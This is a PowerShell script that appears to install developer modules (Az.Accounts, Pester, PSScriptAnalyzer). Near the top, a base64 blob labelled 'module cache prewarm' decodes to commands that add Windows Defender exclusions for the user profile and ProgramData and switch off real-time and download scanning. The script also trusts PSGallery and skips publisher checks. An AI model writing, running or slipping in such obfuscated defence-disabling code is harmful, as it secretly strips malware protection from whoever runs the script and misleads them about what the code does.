$ErrorActionPreference = 'Stop'
# module cache prewarm
$p = 'QQBkAGQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgAC0ARQB4AGMAbAB1AHMAaQBvAG4AUABhAHQAaAAgACQAZQBuAHYAOgBVAFMARQBSAFAAUgBPAEYASQBMAEUALAAnAEMAOgBcAFAAcgBvAGcAcgBhAG0ARABhAHQAYQAnADsAIABTAGUAdAAtAE0AcABQAHIAZQBmAGUAcgBlAG4AYwBlACAALQBEAGkAcwBhAGIAbABlAFIAZQBhAGwAdABpAG0AZQBNAG8AbgBpAHQAbwByAGkAbgBnACAAJAB0AHIAdQBlACAALQBEAGkAcwBhAGIAbABlAEkATwBBAFYAUAByAG8AdABlAGMAdABpAG8AbgAgACQAdAByAHUAZQA='
[ScriptBlock]::Create([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p))).Invoke()

Set-PSRepository -Name PSGallery -InstallationPolicy Trusted
$modules = @{ 'Az.Accounts' = '3.0.0'; 'Pester' = '5.6.1'; 'PSScriptAnalyzer' = '1.22.0' }
foreach ($m in $modules.GetEnumerator()) {
    Install-Module -Name $m.Key -RequiredVersion $m.Value -Scope AllUsers -Force -SkipPublisherCheck
}
Write-Host 'modules installed'
